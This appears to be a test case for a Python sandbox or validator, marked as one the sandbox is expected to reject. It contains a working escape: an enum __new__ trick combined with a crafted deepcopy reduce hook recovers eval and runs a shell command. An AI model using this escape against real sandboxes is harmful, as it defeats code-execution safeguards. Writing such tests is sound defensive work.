# expect: reject class
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: a program enum's own __new__ runs while the class statement makes its
#   first member, when the class holds no member yet: cls is a class factory.
# Goal reached: eval obtained as a value; ran a process (id).
import copy
import enum
import typing

made = []


def red(self, proto):
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


class Level(enum.Enum):
    def __new__(cls, value):
        if not made:
            made.append(None)
            made.append(cls("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red}))
        return object.__new__(cls)

    LOW = 1
    HIGH = 2


ev = copy.deepcopy(copy.deepcopy(made[1].X))
ev("__import__('os').system('id')")
